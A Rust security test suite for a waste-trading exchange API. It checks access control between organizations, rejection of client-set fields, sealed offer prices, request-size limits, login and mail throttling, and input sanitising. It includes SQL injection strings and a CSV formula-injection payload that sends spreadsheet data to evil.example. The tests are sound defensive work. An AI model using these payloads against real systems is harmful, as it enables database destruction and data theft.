//! Probing as an attacker would: another organization's objects by id on every object route,
//! fields a client must not set, sealed prices through side doors, hostile bodies and filters,
//! and a login flood. Every probe must be refused and must change nothing.

use diesel::prelude::*;
use serde_json::{Value, json};
use wufei::db::schema::{
    call_offs, contract_lab_reports, deals, demands, intake_profiles, listings, notifications,
    offers, research_projects, stream_profiles, supply_contracts, transfers,
};
use wufei::service::demo::seed;

use crate::auth::uscc;
use crate::helpers::{Account, TestApp, app, assert_problem};

type Rows = Vec<(String, String, i64)>;

/// Every object's id, state and version (and what a probe could move: remaining, delivered,
/// receipts, read marks), to prove that refused probes changed nothing.
fn snapshot(app: &TestApp) -> String {
    let c = &mut app.conn();
    let l: Vec<(String, String, i64, i64)> = listings::table
        .select((
            listings::id,
            listings::status,
            listings::version,
            listings::remaining_kg,
        ))
        .order(listings::id)
        .load(c)
        .unwrap();
    let o: Rows = offers::table
        .select((offers::id, offers::status, offers::version))
        .order(offers::id)
        .load(c)
        .unwrap();
    let d: Vec<(String, String, i64, i64)> = deals::table
        .select((
            deals::id,
            deals::status,
            deals::version,
            deals::delivered_kg,
        ))
        .order(deals::id)
        .load(c)
        .unwrap();
    let t: Vec<(String, Option<i64>)> = transfers::table
        .select((transfers::id, transfers::received_net_kg))
        .order(transfers::id)
        .load(c)
        .unwrap();
    let m: Rows = demands::table
        .select((demands::id, demands::status, demands::version))
        .order(demands::id)
        .load(c)
        .unwrap();
    let p: Rows = research_projects::table
        .select((
            research_projects::id,
            research_projects::status,
            research_projects::version,
        ))
        .order(research_projects::id)
        .load(c)
        .unwrap();
    let n: Vec<(String, bool)> = notifications::table
        .select((notifications::id, notifications::read_at.is_not_null()))
        .order(notifications::id)
        .load(c)
        .unwrap();
    let k: Rows = supply_contracts::table
        .select((
            supply_contracts::id,
            supply_contracts::status,
            supply_contracts::version,
        ))
        .order(supply_contracts::id)
        .load(c)
        .unwrap();
    let counts = (
        call_offs::table.count().get_result::<i64>(c).unwrap(),
        contract_lab_reports::table
            .count()
            .get_result::<i64>(c)
            .unwrap(),
        stream_profiles::table
            .select(stream_profiles::monthly_kg)
            .load::<String>(c)
            .unwrap(),
        intake_profiles::table
            .select(intake_profiles::monthly_kg)
            .load::<String>(c)
            .unwrap(),
    );
    format!("{l:?}\n{o:?}\n{d:?}\n{t:?}\n{m:?}\n{p:?}\n{n:?}\n{k:?}\n{counts:?}")
}

#[actix_web::test]
async fn other_organizations_objects_are_out_of_reach_on_every_route() {
    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    let admin = app.admin_token().await;
    let outsider = app
        .verified(
            "owner@outsider.test",
            "Outsider Trading Co.",
            &uscc(901),
            &["producer", "receiver"],
            &admin,
        )
        .await;
    // A proposal the lab keeps to itself until staff approve it.
    let lab = app.demo_token("lab@demo.wufei.local").await;
    let res = app
        .post(
            "/api/v1/research-projects",
            Some(&lab),
            &json!({"title": "Slag carbonation trial", "description": "CO2 curing of BOF slag blocks",
                    "categories": ["SW02"], "trl": 4, "trial_t": "20"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let c = &mut app.conn();
    let lots: Vec<(String, String, String)> = listings::table
        .select((listings::id, listings::organization_id, listings::status))
        .load(c)
        .unwrap();
    let offer_ids: Vec<String> = offers::table.select(offers::id).load(c).unwrap();
    let deal_ids: Vec<(String, String)> = deals::table
        .select((deals::id, deals::producer_org_id))
        .load(c)
        .unwrap();
    let truckloads: Vec<(String, String)> = transfers::table
        .select((transfers::deal_id, transfers::id))
        .load(c)
        .unwrap();
    let demand_ids: Vec<String> = demands::table.select(demands::id).load(c).unwrap();
    let contract_ids: Vec<String> = supply_contracts::table
        .select(supply_contracts::id)
        .load(c)
        .unwrap();
    assert!(!contract_ids.is_empty());
    let project_ids: Vec<String> = research_projects::table
        .select(research_projects::id)
        .load(c)
        .unwrap();
    let notes: Vec<String> = notifications::table
        .select(notifications::id)
        .filter(notifications::user_id.ne(&outsider.user_id))
        .load(c)
        .unwrap();
    assert!(lots.len() >= 4 && offer_ids.len() >= 3 && deal_ids.len() >= 2);
    assert!(!truckloads.is_empty() && demand_ids.len() >= 4 && !notes.is_empty());
    let before = snapshot(&app);

    let now = "2026-11-29T08:00:00Z";
    let truck = json!({"carrier": "Outsider Haulage", "vehicle_plate": "蒙B·99999", "driver": "Wang",
                       "ticket_no": "X-1", "gross_kg": 40000, "tare_kg": 15000, "dispatched_at": now});
    let mut probes: Vec<(&str, String, Value)> = Vec::new();
    for (id, _, status) in &lots {
        let p = format!("/api/v1/listings/{id}");
        if status != "published" {
            probes.push(("GET", p.clone(), Value::Null));
        }
        probes.push((
            "PATCH",
            p.clone(),
            json!({"title": "Taken over by outsider"}),
        ));
        probes.push(("POST", format!("{p}/submit"), json!({})));
        probes.push((
            "POST",
            format!("{p}/withdraw"),
            json!({"reason": "outsider"}),
        ));
        probes.push(("GET", format!("{p}/matches"), Value::Null));
    }
    for id in &offer_ids {
        let p = format!("/api/v1/offers/{id}");
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("POST", format!("{p}/accept"), json!({})));
        probes.push(("POST", format!("{p}/reject"), json!({"reason": "outsider"})));
        probes.push((
            "POST",
            format!("{p}/counter"),
            json!({"price_per_t": "1.00"}),
        ));
        probes.push(("POST", format!("{p}/withdraw"), json!({})));
        probes.push(("POST", format!("{p}/accept-counter"), json!({})));
        probes.push(("POST", format!("{p}/reject-counter"), json!({})));
    }
    for (id, producer) in &deal_ids {
        let p = format!("/api/v1/deals/{id}");
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("POST", format!("{p}/complete"), json!({})));
        probes.push((
            "POST",
            format!("{p}/dispute"),
            json!({"reason": "outsider claims"}),
        ));
        probes.push(("POST", format!("{p}/transfers"), truck.clone()));
        probes.push((
            "POST",
            format!("{p}/research-project"),
            json!({"research_project_id": project_ids[0]}),
        ));
        probes.push((
            "POST",
            format!("/api/v1/moderation/deals/{id}/decision"),
            json!({"decision": "cancel", "reason": "outsider"}),
        ));
        probes.push((
            "GET",
            format!("/api/v1/organizations/{producer}/ledger"),
            Value::Null,
        ));
    }
    for (deal, id) in &truckloads {
        probes.push((
            "POST",
            format!("/api/v1/deals/{deal}/transfers/{id}/receipt"),
            json!({"received_net_kg": 1000, "received_at": now}),
        ));
    }
    for id in &demand_ids {
        let p = format!("/api/v1/demands/{id}");
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("PATCH", p.clone(), json!({"status": "closed"})));
        probes.push(("GET", format!("{p}/matches"), Value::Null));
    }
    let twelve = json!({"monthly_t": vec!["100"; 12]});
    for id in &demand_ids {
        let p = format!("/api/v1/demands/{id}/profile");
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("PUT", p, twelve.clone()));
    }
    for (id, _, _) in &lots {
        let p = format!("/api/v1/listings/{id}/profile");
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("PUT", p, twelve.clone()));
    }
    for id in &contract_ids {
        let p = format!("/api/v1/contracts/{id}");
        let reason = json!({"reason": "outsider"});
        probes.push(("GET", p.clone(), Value::Null));
        probes.push(("POST", format!("{p}/agree"), json!({})));
        probes.push(("POST", format!("{p}/decline"), reason.clone()));
        probes.push(("POST", format!("{p}/terminate"), reason.clone()));
        probes.push((
            "POST",
            format!("{p}/call-offs"),
            json!({"month": "2027-01", "called_t": "600"}),
        ));
        probes.push((
            "POST",
            format!("{p}/lab-reports"),
            json!({"lab_report": {}, "properties": {}}),
        ));
        probes.push((
            "POST",
            format!("/api/v1/moderation/contracts/{id}/decision"),
            json!({"decision": "reject", "reason": "outsider"}),
        ));
    }
    for id in &project_ids {
        probes.push((
            "GET",
            format!("/api/v1/research-projects/{id}"),
            Value::Null,
        ));
        probes.push((
            "POST",
            format!("/api/v1/research-projects/{id}/decision"),
            json!({"decision": "approve", "reason": "outsider"}),
        ));
    }
    for id in &notes {
        probes.push((
            "POST",
            format!("/api/v1/notifications/{id}/read"),
            json!({}),
        ));
    }
    for (method, path, body) in &probes {
        let (status, text) = app.send(method, path, Some(&outsider.access), body).await;
        assert!(
            status == 403 || status == 404,
            "{method} {path} answered {status}: {text}"
        );
    }
    assert_eq!(before, snapshot(&app), "a refused probe changed something");

    // The outsider's own lists name none of the others' objects.
    for list in [
        "/api/v1/offers",
        "/api/v1/offers?received=true",
        "/api/v1/deals",
        "/api/v1/demands",
        "/api/v1/notifications",
        "/api/v1/research-projects",
        "/api/v1/contracts",
    ] {
        let (status, text) = app
            .send("GET", list, Some(&outsider.access), &Value::Null)
            .await;
        assert_eq!(status, 200, "{list}");
        let all = offer_ids
            .iter()
            .chain(demand_ids.iter())
            .chain(notes.iter());
        for id in all
            .chain(deal_ids.iter().map(|d| &d.0))
            .chain(project_ids.iter())
            .chain(contract_ids.iter())
        {
            assert!(!text.contains(id.as_str()), "{list} shows {id}");
        }
    }
    // Published lots are the market: visible, but their offers stay with their bidders.
    for (id, _, status) in lots.iter().filter(|l| l.2 == "published") {
        let (s, _) = app
            .send(
                "GET",
                &format!("/api/v1/listings/{id}"),
                Some(&outsider.access),
                &Value::Null,
            )
            .await;
        assert_eq!(s, 200, "published lot {status}");
        let page = app
            .get_json(&format!("/api/v1/listings/{id}/offers"), &outsider.access)
            .await;
        assert_eq!(page["items"].as_array().unwrap().len(), 0);
    }
}

#[actix_web::test]
async fn clients_cannot_set_what_the_exchange_decides() {
    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    let steel = app.demo_token("steel@demo.wufei.local").await;
    let cement = app.demo_token("cement@demo.wufei.local").await;
    let me = app.get_json("/api/v1/me", &steel).await;
    let site = app
        .get_json(
            &format!(
                "/api/v1/organizations/{}/sites",
                me["organization"]["id"].as_str().unwrap()
            ),
            &steel,
        )
        .await;
    let site_id = site["items"][0]["id"].as_str().unwrap();
    let lot = json!({"title": "BOF slag 0-10 mm", "category": "SW01", "subtype": "steel_slag_bof",
        "quantity_t": "100", "min_order_t": "10", "site_id": site_id,
        "pricing": {"model": "fixed", "price_per_t": "20.00"}, "delivery_terms": "pickup",
        "supply": {"pattern": "one_off"}, "generation": "new"});
    let res = app.post("/api/v1/listings", Some(&steel), &lot).await;
    assert_eq!(
        res.status(),
        201,
        "the clean body is valid: {}",
        res.text().await.unwrap()
    );
    // Each field the exchange owns, added to an otherwise valid body, is refused by name.
    let owned = [
        ("status", json!("published")),
        ("organization_id", json!("someone-else")),
        ("version", json!(99)),
        (
            "grades",
            json!([{"rule": "steel_slag_aggregate", "grade": "pass"}]),
        ),
        ("remaining_t", json!("100000")),
        ("id", json!("01JXXXXXXXXXXXXXXXXXXXXXXX")),
    ];
    let count =
        |app: &TestApp| -> i64 { listings::table.count().get_result(&mut app.conn()).unwrap() };
    let lots_before = count(&app);
    let published: String = listings::table
        .select(listings::id)
        .filter(listings::status.eq("published"))
        .first(&mut app.conn())
        .unwrap();
    for (field, value) in &owned {
        let mut body = lot.clone();
        body[field] = value.clone();
        let res = app.post("/api/v1/listings", Some(&steel), &body).await;
        let p = assert_problem(res, 422, "validation_failed").await;
        assert!(p.to_string().contains(field), "{field}: {p}");
        let res = app
            .patch(&format!("/api/v1/listings/{published}"), &steel, &body)
            .await;
        assert!(matches!(res.status().as_u16(), 404 | 422), "PATCH {field}");
    }
    assert_eq!(lots_before, count(&app));

    // Offers: the bidder names quantity and price; the amount, status and organization are ours.
    let offer = json!({"quantity_t": "10", "price_per_t": "30.00", "intended_use": "cement",
                       "expires_at": "2027-01-31T00:00:00Z"});
    for (field, value) in [
        ("status", json!("accepted")),
        ("amount_yuan", json!("1.00")),
        ("organization_id", json!("x")),
        ("version", json!(7)),
    ] {
        let mut body = offer.clone();
        body[field] = value;
        let res = app
            .post(
                &format!("/api/v1/listings/{published}/offers"),
                Some(&cement),
                &body,
            )
            .await;
        assert_problem(res, 422, "validation_failed").await;
    }
    // Organizations: verification and kinds are staff business.
    let org = me["organization"]["id"].as_str().unwrap();
    for (field, value) in [
        ("verification_status", json!("verified")),
        ("status", json!("verified")),
        ("uscc", json!("91150200MA0000000X")),
    ] {
        let res = app
            .patch(
                &format!("/api/v1/organizations/{org}"),
                &steel,
                &json!({ field: value }),
            )
            .await;
        assert_problem(res, 422, "validation_failed").await;
    }
    // Registration cannot grant a platform role.
    let res = app
        .post(
            "/api/v1/auth/register",
            None,
            &json!({"email": "eve@x.test", "password": "correct horse battery staple 9", "display_name": "Eve",
                    "platform_role": "admin"}),
        )
        .await;
    assert_problem(res, 422, "validation_failed").await;
}

#[actix_web::test]
async fn sealed_prices_do_not_leak_through_matches_statistics_or_the_lot() {
    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    // Every open offer's price, as text, and its id.
    let open: Vec<(String, String, i64)> = offers::table
        .select((offers::id, offers::listing_id, offers::price_fen_per_t))
        .load(&mut app.conn())
        .unwrap();
    let owners: Vec<(String, String)> = offers::table
        .inner_join(listings::table)
        .select((offers::id, listings::organization_id))
        .load(&mut app.conn())
        .unwrap();
    assert!(!open.is_empty());
    for email in [
        "cement@demo.wufei.local",
        "roads@demo.wufei.local",
        "lab@demo.wufei.local",
    ] {
        let t = app.demo_token(email).await;
        let me = app.get_json("/api/v1/me", &t).await;
        let org = me["organization"]["id"].as_str().unwrap();
        let mine: Vec<String> = offers::table
            .select(offers::id)
            .filter(offers::organization_id.eq(org))
            .load(&mut app.conn())
            .unwrap();
        let mut pages = vec![
            "/api/v1/listings".to_string(),
            "/api/v1/stats/summary".to_string(),
        ];
        let demands = app.get_json("/api/v1/demands", &t).await;
        for d in demands["items"].as_array().unwrap() {
            pages.push(format!(
                "/api/v1/demands/{}/matches",
                d["id"].as_str().unwrap()
            ));
        }
        for (_, lot, _) in &open {
            pages.push(format!("/api/v1/listings/{lot}"));
        }
        pages.push("/api/v1/notifications".into());
        for page in &pages {
            let text = app.get_as(page, &t).await.text().await.unwrap();
            for (id, _, _) in open.iter().filter(|o| !mine.contains(&o.0)) {
                assert!(
                    !text.contains(id.as_str()),
                    "{email} sees offer {id} in {page}"
                );
            }
            for key in ["best_offer", "highest", "bids", "offer_count", "top_price"] {
                assert!(!text.contains(key), "{page} has {key}");
            }
        }
    }
    // The producer sees offers on its own lots only; its matches show demands, not bids.
    let steel = app.demo_token("steel@demo.wufei.local").await;
    let me = app.get_json("/api/v1/me", &steel).await;
    let org = me["organization"]["id"].as_str().unwrap();
    let received = app.get_json("/api/v1/offers?received=true", &steel).await;
    for o in received["items"].as_array().unwrap() {
        let id = o["id"].as_str().unwrap();
        assert!(owners.iter().any(|(oid, owner)| oid == id && owner == org));
    }
    // Public statistics carry no prices or organizations at all.
    let summary = app.get("/api/v1/stats/summary").await.text().await.unwrap();
    for key in ["price", "amount", "organization_id", "legal_name"] {
        assert!(!summary.contains(key), "summary has {key}");
    }
}

#[actix_web::test]
async fn oversized_and_deeply_nested_bodies_are_refused_cleanly() {
    let app = app().start().await;
    let admin = app.admin_token().await;
    let big = format!(
        "{{\"email\":\"{}\",\"password\":\"x\"}}",
        "a".repeat(2 << 20)
    );
    let res = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("content-type", "application/json")
        .body(big)
        .send()
        .await
        .unwrap();
    assert_problem(res, 413, "payload_too_large").await;
    let just_over = json!({"title": "x".repeat(70 * 1024)});
    let res = app.post("/api/v1/demands", Some(&admin), &just_over).await;
    assert_problem(res, 413, "payload_too_large").await;
    for depth in [200, 20_000] {
        let nested = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
        let wrapped = format!("{{\"email\":\"a@b.c\",\"password\":{nested}}}");
        let res = app
            .client
            .post(app.url("/api/v1/auth/login"))
            .header("content-type", "application/json")
            .body(wrapped)
            .send()
            .await
            .unwrap();
        let status = res.status().as_u16();
        assert!(matches!(status, 400 | 413 | 422), "depth {depth}: {status}");
        assert!(
            res.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("application/problem+json")
        );
    }
    let res = app.get("/health/live").await;
    assert_eq!(res.status(), 200);
}

/// Hostile text for every text filter: SQL metacharacters, LIKE wildcards, quotes, Unicode that
/// trips naive code (astral, RTL override, combining marks, zero-width), an encoded NUL, and a
/// string far past every length limit.
const HOSTILE: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE listings; --",
    "\" OR \"\"=\"",
    "%",
    "_",
    "\\",
    "%' UNION SELECT password_hash FROM users --",
    "𝔰𝔩𝔞𝔤 🏭",
    "\u{202e}gals",
    "e\u{301}\u{301}\u{301}",
    "\u{200d}\u{feff}",
    "钢渣；粉煤灰",
    "\u{0}",
];

#[actix_web::test]
async fn hostile_text_in_every_filter_is_answered_not_obeyed() {
    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    let admin = app.admin_token().await;
    let cement = app.demo_token("cement@demo.wufei.local").await;
    let filters: &[(&str, &str, &str)] = &[
        ("/api/v1/listings", "q", "member"),
        ("/api/v1/listings", "category", "member"),
        ("/api/v1/listings", "subtype", "member"),
        ("/api/v1/listings", "grade", "member"),
        ("/api/v1/listings", "region_code", "member"),
        ("/api/v1/listings", "min_quantity_t", "member"),
        ("/api/v1/listings", "max_price", "member"),
        ("/api/v1/listings", "cursor", "member"),
        ("/api/v1/offers", "cursor", "member"),
        ("/api/v1/deals", "cursor", "member"),
        ("/api/v1/demands", "cursor", "member"),
        ("/api/v1/notifications", "cursor", "member"),
        ("/api/v1/research-projects", "cursor", "member"),
        ("/api/v1/admin/users", "email", "staff"),
        ("/api/v1/audit-log", "object_type", "staff"),
        ("/api/v1/audit-log", "object_id", "staff"),
        ("/api/v1/audit-log", "actor", "staff"),
        ("/api/v1/audit-log", "action", "staff"),
        ("/api/v1/audit-log", "cursor", "staff"),
        ("/api/v1/moderation/listings", "cursor", "staff"),
        ("/api/v1/moderation/emails", "cursor", "staff"),
        ("/api/v1/stats/flows", "factor_version", "staff"),
        ("/api/v1/stats/summary", "factor_version", "staff"),
    ];
    let published: Vec<(String, String)> = listings::table
        .select((listings::title, listings::description))
        .filter(listings::status.eq("published"))
        .load(&mut app.conn())
        .unwrap();
    let before = snapshot(&app);
    let total: i64 = listings::table.count().get_result(&mut app.conn()).unwrap();
    let long = "x".repeat(5000);
    for (path, param, who) in filters {
        let t = if *who == "staff" { &admin } else { &cement };
        for value in HOSTILE.iter().copied().chain([long.as_str()]) {
            let encoded: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
            let res = app
                .client
                .get(app.url(&format!("{path}?{param}={encoded}")))
                .bearer_auth(t)
                .send()
                .await
                .unwrap();
            let status = res.status().as_u16();
            let ctype = res.headers()["content-type"].to_str().unwrap().to_string();
            let body = res.text().await.unwrap();
            match status {
                200 => {
                    // A wildcard or a tautology is text like any other: it finds the lots
                    // that contain it, never more.
                    if *param == "q" {
                        let page: Value = serde_json::from_str(&body).unwrap();
                        let needle = value.trim().to_lowercase();
                        let expected = published
                            .iter()
                            .filter(|(t, d)| {
                                needle.is_empty()
                                    || t.to_lowercase().contains(&needle)
                                    || d.to_lowercase().contains(&needle)
                            })
                            .count();
                        assert_eq!(
                            page["items"].as_array().unwrap().len(),
                            expected,
                            "q={value:?}"
                        );
                    }
                }
                404 | 422 => assert!(ctype.starts_with("application/problem+json"), "{path}"),
                _ => panic!("{path}?{param}={value:?} answered {status}: {body}"),
            }
            if value == "\u{0}" || value.len() > 1000 {
                assert_eq!(status, 422, "{path}?{param}={value:?}");
            }
        }
    }
    let after: i64 = listings::table.count().get_result(&mut app.conn()).unwrap();
    assert_eq!(total, after);
    assert_eq!(before, snapshot(&app));
    // Bodies too: hostile text is stored as given and read back byte for byte, NUL refused.
    for value in HOSTILE.iter().filter(|v| !v.contains('\u{0}')) {
        let title = format!("Trial {value}");
        let res = app
            .post(
                "/api/v1/research-projects",
                Some(&app.demo_token("lab@demo.wufei.local").await),
                &json!({"title": title, "description": value, "categories": ["SW02"], "trl": 3, "trial_t": "5"}),
            )
            .await;
        assert_eq!(res.status(), 201, "{value:?}");
        let p: Value = res.json().await.unwrap();
        assert_eq!(p["title"], title.as_str());
        assert_eq!(p["description"], *value);
    }
    let res = app
        .post(
            "/api/v1/research-projects",
            Some(&app.demo_token("lab@demo.wufei.local").await),
            &json!({"title": "NUL \u{0} trial", "description": "x", "categories": ["SW02"], "trl": 3, "trial_t": "5"}),
        )
        .await;
    assert_problem(res, 422, "validation_failed").await;
}

#[actix_web::test]
async fn a_login_flood_is_throttled_and_the_rest_keeps_answering() {
    let app = app().start().await;
    let admin = app.admin_token().await;
    let victim: Account = app
        .verified(
            "victim@flood.test",
            "Flood Victim Co.",
            &uscc(950),
            &["receiver"],
            &admin,
        )
        .await;
    let attempts = (0..60).map(|i| {
        let app = &app;
        async move {
            let email = if i % 2 == 0 {
                "victim@flood.test".to_string()
            } else {
                format!("nobody{i}@flood.test")
            };
            app.post(
                "/api/v1/auth/login",
                None,
                &json!({"email": email, "password": "wrong password 1"}),
            )
            .await
        }
    });
    let answers = futures_util::future::join_all(attempts).await;
    let mut throttled = 0;
    for res in answers {
        match res.status().as_u16() {
            401 => {}
            429 => {
                assert!(res.headers().contains_key("retry-after"));
                throttled += 1;
            }
            s => panic!("login flood answered {s}"),
        }
    }
    assert!(throttled >= 40, "only {throttled} of 60 throttled");
    // The victim's account is shut for password guessing, even with the right password...
    let res = app
        .post(
            "/api/v1/auth/login",
            None,
            &json!({"email": "victim@flood.test", "password": crate::helpers::PASSWORD}),
        )
        .await;
    assert_problem(res, 429, "too_many_requests").await;
    // ...while its signed-in sessions and the public market keep working.
    let res = app.get_as("/api/v1/me", &victim.access).await;
    assert_eq!(res.status(), 200);
    assert_eq!(app.get("/api/v1/stats/summary").await.status(), 200);
}

#[actix_web::test]
async fn a_hostile_name_reaches_a_rival_ledger_as_text_never_as_a_formula() {
    use wufei::db::schema::organizations;

    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    let hostile = r#"=HYPERLINK("http://evil.example/x?"&A1,"Click")"#;
    // The cement plant, which received fly ash by truck, names itself with a formula.
    let cement = app.demo_token("cement@demo.wufei.local").await;
    let me = app.get_json("/api/v1/me", &cement).await;
    diesel::update(organizations::table.find(me["organization"]["id"].as_str().unwrap()))
        .set(organizations::legal_name.eq(hostile))
        .execute(&mut app.conn())
        .unwrap();
    let power = app.demo_token("jiuyuan-power@demo.wufei.local").await;
    let me = app.get_json("/api/v1/me", &power).await;
    let org = me["organization"]["id"].as_str().unwrap();
    let res = app
        .get_as(&format!("/api/v1/organizations/{org}/ledger"), &power)
        .await;
    assert_eq!(res.status(), 200);
    let csv = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[4].to_string())
        .collect();
    assert!(!names.is_empty(), "the demo ledger has truckloads");
    for name in names {
        assert_eq!(name, format!("'{hostile}"), "neutralised, not live");
    }
}

#[actix_web::test]
async fn research_boards_show_demands_without_whose_they_are_or_their_price() {
    let app = app().env("WUFEI_STRANDED_DAYS", "0").start().await;
    seed(&mut app.conn()).unwrap();
    let lab = app.demo_token("lab@demo.wufei.local").await;
    // A proposal, not yet approved, of the categories the demo demands want.
    let res = app
        .post(
            "/api/v1/research-projects",
            Some(&lab),
            &json!({"title": "Fly ash and slag blocks", "description": "Geopolymer blocks",
                    "categories": ["SW02", "SW01"], "trl": 4, "trial_t": "20"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let project: Value = res.json().await.unwrap();
    let page = app
        .get_json(
            &format!(
                "/api/v1/research-projects/{}",
                project["id"].as_str().unwrap()
            ),
            &lab,
        )
        .await;
    let board = app
        .get_json("/api/v1/alliance/stranded-listings", &lab)
        .await;
    let mut shown: Vec<Value> = page["demands"].as_array().unwrap().clone();
    for item in board["items"].as_array().unwrap() {
        for m in item["best_matches"].as_array().unwrap() {
            assert!(m.get("breakdown").is_none(), "no price arithmetic: {m}");
            shown.push(m["demand"].clone());
        }
    }
    assert!(!shown.is_empty(), "the boards show the demo demands");
    for demand in shown {
        for private in ["organization_id", "price_limit_per_t", "site_id", "title"] {
            assert!(demand.get(private).is_none(), "{private} shown: {demand}");
        }
        assert!(demand["categories"].is_array() && demand["quantity_t"].is_string());
        assert!(demand["region_code"].is_string());
    }
}

#[actix_web::test]
async fn strangers_cannot_fill_a_mailbox_and_unverified_organizations_cannot_invite() {
    let app = app().env("WUFEI_MAIL_MAX_PER_CLIENT", "8").start().await;
    let victim = app
        .signup(
            "victim@x.test",
            "Victim Cement Co.",
            &uscc(950),
            &["receiver"],
        )
        .await;
    // An organization not yet verified cannot send invitations in its chosen name.
    let res = app
        .post(
            &format!(
                "/api/v1/organizations/{}/invitations",
                victim.organization_id
            ),
            Some(&victim.access),
            &json!({"email": "anyone@x.test", "role": "member"}),
        )
        .await;
    assert_problem(res, 403, "organization_not_verified").await;
    // Per address: five mails an hour (the sign-up was the first), then 429 with the wait.
    for n in 2..=6 {
        let res = app
            .post(
                "/api/v1/auth/password/forgot",
                None,
                &json!({"email": "victim@x.test"}),
            )
            .await;
        if n <= 5 {
            assert_eq!(res.status(), 202, "request {n}");
        } else {
            assert!(res.headers().contains_key("retry-after"));
            assert_problem(res, 429, "too_many_requests").await;
        }
    }
    // Registration with the address counts against the same limit.
    let res = app
        .post(
            "/api/v1/auth/register",
            None,
            &crate::helpers::registration("victim@x.test", "Again Co.", &uscc(951), &["producer"]),
        )
        .await;
    assert_eq!(res.status(), 429);
    // Per client address: the rest of its allowance (the invitation counted too) across other
    // addresses, then 429.
    let mut refused = 0;
    for n in 0..4 {
        let res = app
            .post(
                "/api/v1/auth/password/forgot",
                None,
                &json!({"email": format!("other{n}@x.test")}),
            )
            .await;
        if res.status() == 429 {
            refused += 1;
        }
    }
    assert!(refused >= 1, "the client's allowance ran out");
    // The victim got the verification mail and five resets at most.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert!(app.mails_to("victim@x.test").len() <= 6);
}

async fn login_from(app: &TestApp, email: &str, forwarded_for: &str) -> u16 {
    app.client
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", forwarded_for)
        .json(&json!({"email": email, "password": "not-the-password-123"}))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

#[actix_web::test]
async fn instances_share_the_login_throttle_and_trust_only_their_proxies() {
    // Two instances on one database behind a proxy at 127.0.0.1.
    let a = app()
        .env("WUFEI_LOGIN_MAX_FAILURES", "3")
        .env("WUFEI_TRUSTED_PROXIES", "127.0.0.1, 10.0.0.0/8")
        .start()
        .await;
    let b = app()
        .env("WUFEI_LOGIN_MAX_FAILURES", "3")
        .env("WUFEI_TRUSTED_PROXIES", "127.0.0.1, 10.0.0.0/8")
        .env("WUFEI_DATABASE_URL", &a.db.url)
        .start()
        .await;
    for _ in 0..3 {
        assert_eq!(login_from(&a, "target@x.test", "203.0.113.5").await, 401);
    }
    // The account's failures on A count on B, from another client.
    assert_eq!(login_from(&b, "target@x.test", "198.51.100.7").await, 429);
    // The client behind the proxy is told apart: its address is spent on any account...
    assert_eq!(
        login_from(&b, "other@x.test", "203.0.113.5, 10.1.2.3").await,
        429
    );
    // ...while another client behind the same proxy is not.
    assert_eq!(login_from(&b, "third@x.test", "198.51.100.7").await, 401);

    // Without trusted proxies the header changes nothing: every request is the peer's.
    let c = app().env("WUFEI_LOGIN_MAX_FAILURES", "3").start().await;
    for n in 0..3 {
        assert_eq!(
            login_from(&c, &format!("u{n}@x.test"), &format!("192.0.2.{n}")).await,
            401
        );
    }
    assert_eq!(login_from(&c, "u9@x.test", "192.0.2.99").await, 429);
}

#[actix_web::test]
async fn control_characters_stay_out_of_names_and_titles() {
    let app = app().start().await;
    seed(&mut app.conn()).unwrap();
    let steel = app.demo_token("steel@demo.wufei.local").await;
    let mine = app.get_json("/api/v1/listings?mine=true", &steel).await;
    let lot = mine["items"][0]["id"].as_str().unwrap().to_string();
    // A bell or an escape sequence in a title or a name is refused, a line break in a
    // description is text.
    for title in [
        "Slag\u{7} lot",
        "Slag \u{1b}[31mred",
        "Slag\nlot",
        "Slag\u{85}lot",
    ] {
        let res = app
            .patch(
                &format!("/api/v1/listings/{lot}"),
                &steel,
                &json!({"title": title}),
            )
            .await;
        let problem = assert_problem(res, 422, "validation_failed").await;
        assert_eq!(
            problem["errors"][0]["code"], "control_character",
            "{title:?}"
        );
    }
    let res = app
        .patch(
            &format!("/api/v1/listings/{lot}"),
            &steel,
            &json!({"description": "Line one\nline two\twith a tab"}),
        )
        .await;
    assert_eq!(res.status(), 200);
    let me = app.get_json("/api/v1/me", &steel).await;
    let org = me["organization"]["id"].as_str().unwrap();
    let res = app
        .patch(
            &format!("/api/v1/organizations/{org}"),
            &steel,
            &json!({"contact_name": "王\u{1b}[2J工"}),
        )
        .await;
    let problem = assert_problem(res, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["code"], "control_character");
}
